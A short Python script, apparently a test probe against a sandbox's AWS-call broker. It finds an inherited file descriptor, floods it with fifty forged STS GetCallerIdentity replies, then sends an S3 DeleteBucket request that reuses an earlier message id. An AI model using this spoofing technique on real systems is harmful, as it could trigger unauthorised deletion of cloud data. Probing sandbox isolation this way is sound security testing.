import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import os, threading
def channel():
    for fd in range(3, 64):
        try:
            os.fstat(fd)
            return fd
        except OSError:
            pass
fd = channel()
def send(message):
    data = json.dumps(message).encode()
    os.write(fd, len(data).to_bytes(4, "big") + data)
# Answers sent back as if they were ours to give, many times, then a question with the same number.
for n in range(50):
    send({"id": n, "at": 0, "ok": {"Account": "999999999999"}, "service": "sts", "operation": "GetCallerIdentity", "region": "us-east-1", "parameters": {}})
send({"id": 1, "service": "s3", "operation": "DeleteBucket", "region": "us-east-1", "parameters": {"Bucket": "mine"}})
